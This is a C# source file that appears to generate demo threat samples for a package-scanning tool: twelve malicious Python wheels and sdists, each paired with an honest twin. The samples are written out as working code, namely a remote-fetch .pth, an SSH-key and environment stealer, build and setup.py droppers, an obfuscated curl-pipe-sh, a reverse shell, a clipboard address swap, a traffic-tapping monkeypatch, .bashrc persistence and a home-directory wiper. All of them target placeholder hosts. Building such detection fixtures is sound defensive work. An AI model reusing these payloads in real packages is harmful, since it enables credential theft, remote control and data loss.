using System.IO.Compression;
using System.Text;

namespace Bonded.Cli.Demo.Threats;

/// <summary>
/// A dozen malicious releases and their honest twins, made on the spot. They are inert: hosts lie under <c>example.invalid</c>, which
/// never resolves, and what would change a machine by itself stands behind a condition that is never true.
/// </summary>
sealed class DemoThreats(DateTimeOffset now)
{
    // Nothing makes this file, so nothing below it ever runs.
    const string Never = "if os.path.exists(\"/nonexistent/bonded-demo\"):";

    public IReadOnlyList<DemoThreat> All =>
    [
        StartupFetch, LayeredDecoder, Stealer, BuildDropper, DisguisedNames, SetupDownloader, ReverseShell, ClipboardSwap, PayloadInData, Patch, Persistence, Wiper,
    ];

    /// <summary>An established project: years of good releases, then a patch release with one file more.</summary>
    public DemoThreat StartupFetch => new(
        "gains a .pth file that fetches code at every start of Python and runs it",
        Wheel("lanternfish", "2.2.1", 40, "", new DemoMember("lanternfish-init.pth", "import urllib.request; exec(urllib.request.urlopen('https://updates.example.invalid/init').read())\n")),
        "fetched-code",
        ["lanternfish-init.pth, line 1", "runs at every start of Python"],
        [Wheel("lanternfish", "1.0", 900, ""), Wheel("lanternfish", "2.0", 500, ""), Wheel("lanternfish", "2.1", 300, ""), Wheel("lanternfish", "2.2", 120, "")],
        [Wheel("coralgarden", "1.1", 200, "", new DemoMember("coralgarden_vendored/__init__.py", ""))]);

    public DemoThreat LayeredDecoder => new(
        "decodes its code from a text within a text and runs it",
        Wheel("driftglass", "1.3", 40, $"import base64, zlib\n\nexec(zlib.decompress(base64.b64decode(\"{Packed(Layered)}\")))\n"),
        "encoded-code",
        ["driftglass/__init__.py, line 4", "runs when it is imported", "wrapped in base64 > zlib > base64"],
        [Wheel("driftglass", "1.2", 200, "")],
        [
            Wheel("saltmarshes", "1.3", 200, $"""
                import base64, json, zlib

                # A table of tides, packed as small as it goes.
                TIDES = json.loads(zlib.decompress(base64.b64decode("{Packed("{\"high\": [1, 13], \"low\": [7, 19]}")}")))

                """),
        ]);

    public DemoThreat Stealer => new(
        "sends SSH keys and the environment away when it is imported",
        Wheel("gullwings", "3.1", 40, """
            import json, os, urllib.request

            def _report():
                taken = {"env": dict(os.environ)}
                path = os.path.expanduser("~/.ssh/id_rsa")
                try:
                    with open(path) as key:
                        taken["key"] = key.read()
                    body = json.dumps(taken).encode()
                    urllib.request.urlopen(urllib.request.Request("https://hooks.example.invalid/services/collect", data=body))
                except Exception:
                    pass

            _report()

            """),
        "environment-sent",
        ["gullwings/__init__.py, line 11", "runs when it is imported", "secrets-sent"],
        [Wheel("gullwings", "3.0", 200, "")],
        [
            Wheel("pebbleshore", "3.1", 200, """
                import json, os, urllib.request

                class Client:
                    def __init__(self, token=None):
                        self.token = token or os.environ.get("PEBBLESHORE_TOKEN", "")

                    def stones(self, beach):
                        request = urllib.request.Request("https://api.pebbleshore.example.invalid/stones/" + beach, headers={"Authorization": "Bearer " + self.token})
                        with urllib.request.urlopen(request) as answer:
                            return json.load(answer)

                """),
        ]);

    /// <summary>Its build runs code of its own before anything is installed.</summary>
    public DemoThreat BuildDropper => new(
        "has a build backend of its own that downloads a program and starts it",
        Sdist("ironkeels", "1.4", 40,
            new DemoMember("pyproject.toml", "[build-system]\nrequires = []\nbuild-backend = \"backend\"\nbackend-path = [\"_build\"]\n"),
            new DemoMember("_build/backend.py", """
                import os, subprocess, tempfile, urllib.request

                def _prepare():
                    target = os.path.join(tempfile.gettempdir(), "compiler-cache")
                    with open(target, "wb") as out:
                        out.write(urllib.request.urlopen("https://cdn.example.invalid/cache").read())
                    os.chmod(target, 0o755)
                    subprocess.Popen([target], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)

                def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
                    _prepare()
                    raise SystemExit("done")

                def build_sdist(sdist_directory, config_settings=None):
                    _prepare()
                    raise SystemExit("done")

                """),
            new DemoMember("ironkeels/__init__.py", "__version__ = \"1.4\"\n")),
        "fetched-code",
        ["_build/backend.py, line 8", "runs when it is built or installed"],
        [Wheel("ironkeels", "1.3", 200, "")],
        [Sdist("oakplanks", "1.4", 200, [.. HonestBackend("oakplanks", "1.4")])]);

    public DemoThreat DisguisedNames => new(
        "puts the names of what it calls together from pieces",
        Wheel("mistlens", "0.8", 40, """
            _pieces = ["sy", "st", "em"]
            _module = __import__("".join(chr(c) for c in (111, 115)))
            getattr(_module, "".join(_pieces))("cu" + "rl -s https://x.example.invalid/i | s" + "h")

            """),
        "fetching-command",
        ["mistlens/__init__.py, line 4", "runs when it is imported"],
        [Wheel("mistlens", "0.7", 200, "")],
        [
            Wheel("clearpane", "0.8", 200, """
                import importlib

                def load(kind):
                    module = importlib.import_module("clearpane." + kind)
                    return getattr(module, kind.title())

                """, new DemoMember("clearpane/glass.py", "class Glass:\n    pass\n")),
        ]);

    public DemoThreat SetupDownloader => new(
        "downloads a program from setup.py while it is installed",
        Sdist("tallmasts", "0.9", 40,
            new DemoMember("setup.py", """
                import os, stat, subprocess, tempfile
                from urllib.request import urlretrieve
                from setuptools import setup
                from setuptools.command.install import install

                class Install(install):
                    def run(self):
                        install.run(self)
                        path = os.path.join(tempfile.mkdtemp(), "helper")
                        urlretrieve("https://dl.example.invalid/helper", path)
                        os.chmod(path, stat.S_IRWXU)
                        subprocess.Popen([path])

                setup(name="tallmasts", version="0.9", packages=["tallmasts"], cmdclass={"install": Install})

                """),
            new DemoMember("tallmasts/__init__.py", "")),
        "fetched-code",
        ["setup.py, line 12", "runs when it is built or installed"],
        [Wheel("tallmasts", "0.8", 200, "")],
        [
            Wheel("shortmasts", "0.9", 200, ""),
            Sdist("shortmasts", "0.9", 200,
                new DemoMember("setup.py", """
                    import os
                    from setuptools import setup
                    from setuptools.command.build_py import build_py

                    class Build(build_py):
                        def run(self):
                            build_py.run(self)
                            with open(os.path.join(self.build_lib, "shortmasts", "_version.py"), "w") as out:
                                out.write("version = '0.9'\n")

                    setup(name="shortmasts", version="0.9", packages=["shortmasts"], cmdclass={"build_py": Build})

                    """),
                new DemoMember("shortmasts/__init__.py", "")),
        ]);

    public DemoThreat ReverseShell => new(
        "opens a shell to another machine",
        Wheel("harborlamps", "1.1", 40, """
            import os, socket, subprocess, threading

            def _serve():
                s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
                s.connect(("shell.example.invalid", 4444))
                for fd in (0, 1, 2):
                    os.dup2(s.fileno(), fd)
                subprocess.call(["/bin/sh", "-i"])

            threading.Thread(target=_serve, daemon=True).start()

            """),
        "reverse-shell",
        ["harborlamps/__init__.py, line 6", "runs when it is imported"],
        [Wheel("harborlamps", "1.0", 200, "")],
        [
            Wheel("quaylights", "1.1", 200, """
                import socket

                def blink(host, port=4444):
                    with socket.create_connection((host, port), timeout=5) as connection:
                        connection.sendall(b"BLINK\n")
                        return connection.recv(64)

                """),
        ]);

    public DemoThreat ClipboardSwap => new(
        "replaces payment addresses in the clipboard",
        Wheel("shellbeads", "2.4", 40, $$"""
            import os, re, threading, time
            import pyperclip

            _ADDRESS = re.compile(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$")

            def _watch():
                while True:
                    if _ADDRESS.match(pyperclip.paste()):
                        pyperclip.copy("bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq")
                    time.sleep(1)

            {{Never}}
                threading.Thread(target=_watch, daemon=True).start()

            """),
        "clipboard-swap",
        ["shellbeads/__init__.py, line 10", "runs when it is imported"],
        [Wheel("shellbeads", "2.3", 200, "")],
        [
            Wheel("stringbeads", "2.4", 200, """
                def copy(text):
                    import pyperclip
                    pyperclip.copy(text)

                """),
        ]);

    public DemoThreat PayloadInData => new(
        "takes its code out of a data file",
        Wheel("anchorage-tables", "1.6", 40, """
            import os, zlib

            with open(os.path.join(os.path.dirname(__file__), "tables.dat"), "rb") as _file:
                exec(zlib.decompress(_file.read()))

            """, new DemoMember("anchorage_tables/tables.dat", Compressed(Sender))),
        "payload-in-data",
        ["anchorage_tables/__init__.py, line 5", "runs when it is imported"],
        [Wheel("anchorage-tables", "1.5", 200, "")],
        [
            Wheel("mooring-tables", "1.6", 200, """
                import json, os, zlib

                with open(os.path.join(os.path.dirname(__file__), "tables.dat"), "rb") as _file:
                    TABLES = json.loads(zlib.decompress(_file.read()))

                """, new DemoMember("mooring_tables/tables.dat", Compressed("{\"moorings\": [3, 5, 8]}"))),
        ]);

    public DemoThreat Patch => new(
        "replaces a function of another package and sends on what it is given",
        Wheel("spyglasses", "1.2", 40, """
            import requests, urllib.request

            _send = requests.Session.send

            def _tee(self, request, **options):
                try:
                    urllib.request.urlopen("https://tap.example.invalid/", data=repr((request.url, dict(request.headers), request.body)).encode(), timeout=2)
                except Exception:
                    pass
                return _send(self, request, **options)

            requests.Session.send = _tee

            """),
        "patched-package",
        ["spyglasses/__init__.py, line 13", "runs when it is imported"],
        [Wheel("spyglasses", "1.1", 200, "")],
        [
            Wheel("sextants", "1.2", 200, """
                class Session:
                    timeout = 30

                    def send(self, request, **options):
                        options.setdefault("timeout", self.timeout)
                        return request, options

                """),
        ]);

    public DemoThreat Persistence => new(
        "writes itself into the shell's start file",
        Wheel("barnacles-cling", "0.5", 40, $$"""
            import os

            {{Never}}
                with open(os.path.expanduser("~/.bashrc"), "a") as rc:
                    rc.write("\ncurl -s https://keep.example.invalid/s | sh &\n")

            """),
        "persistence",
        ["barnacles_cling/__init__.py, line 6", "runs when it is imported"],
        [Wheel("barnacles-cling", "0.4", 200, "")],
        [
            Wheel("limpets-cling", "0.5", 200, """
                def completion(shell="bash"):
                    return 'eval "$(limpets --completion ' + shell + ')"  # add this line to your ~/.bashrc'

                """),
        ]);

    public DemoThreat Wiper => new(
        "deletes the home directory",
        Wheel("ebbtides", "4.0", 40, $$"""
            import os, shutil

            {{Never}}
                shutil.rmtree(os.path.expanduser("~"), ignore_errors=True)

            """),
        "destruction",
        ["ebbtides/__init__.py, line 5", "runs when it is imported"],
        [Wheel("ebbtides", "3.9", 200, "")],
        [
            Wheel("floodtides", "4.0", 200, """
                import shutil, tempfile

                def scratch(work):
                    folder = tempfile.mkdtemp(prefix="floodtides-")
                    try:
                        return work(folder)
                    finally:
                        shutil.rmtree(folder, ignore_errors=True)

                """),
        ]);

    // What the decoders find in the end.
    const string Sender = "import os, urllib.request\nurllib.request.urlopen('https://collect.example.invalid/', data=repr(dict(os.environ)).encode())\n";

    static string Layered => $"import base64\nexec(base64.b64decode('{Convert.ToBase64String(Encoding.UTF8.GetBytes(Sender))}'))\n";

    static string Packed(string text) => Convert.ToBase64String(Compressed(text));

    static byte[] Compressed(string text)
    {
        using var buffer = new MemoryStream();

        // Only writing: the class is banned for reading.
#pragma warning disable RS0030
        using (var zlib = new ZLibStream(buffer, CompressionLevel.Optimal, leaveOpen: true)) zlib.Write(Encoding.UTF8.GetBytes(text));
#pragma warning restore RS0030
        return buffer.ToArray();
    }

    /// <summary>An sdist with a backend in its own tree that builds a wheel of what is there, and needs nothing else for it.</summary>
    static IEnumerable<DemoMember> HonestBackend(string name, string version) =>
    [
        new("pyproject.toml", "[build-system]\nrequires = []\nbuild-backend = \"backend\"\nbackend-path = [\"_build\"]\n"),
        new("_build/backend.py", $$"""
            import os, zipfile

            NAME, VERSION = "{{name}}", "{{version}}"

            def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
                info = "%s-%s.dist-info" % (NAME, VERSION)
                filename = "%s-%s-py3-none-any.whl" % (NAME, VERSION)
                members = {
                    NAME + "/__init__.py": open(os.path.join(NAME, "__init__.py")).read(),
                    info + "/METADATA": "Metadata-Version: 2.1\nName: %s\nVersion: %s\n" % (NAME, VERSION),
                    info + "/WHEEL": "Wheel-Version: 1.0\nGenerator: demo\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
                }
                record = "".join("%s,,\n" % path for path in members) + info + "/RECORD,,\n"
                with zipfile.ZipFile(os.path.join(wheel_directory, filename), "w") as wheel:
                    for path, text in members.items():
                        wheel.writestr(path, text)
                    wheel.writestr(info + "/RECORD", record)
                return filename

            """),
        new($"{name}/__init__.py", $"__version__ = \"{version}\"\n"),
    ];

    DemoFile Wheel(string name, string version, int days, string code, params ReadOnlySpan<DemoMember> more)
    {
        var metadata = DemoWheel.Metadata(name, version);
        var module = name.Replace('-', '_');
        return new(name, $"{module}-{version}-py3-none-any.whl",
            DemoWheel.Build(name, version, metadata, [new DemoMember($"{module}/__init__.py", $"__version__ = \"{version}\"\n{(code.Length > 0 ? code : DemoWheel.Harmless)}"), .. more]), metadata, now.AddDays(-days));
    }

    DemoFile Sdist(string name, string version, int days, params ReadOnlySpan<DemoMember> members) =>
        new(name, $"{name.Replace('-', '_')}-{version}.tar.gz", DemoSdist.Build(name, version, members.ToArray()), null, now.AddDays(-days));
}
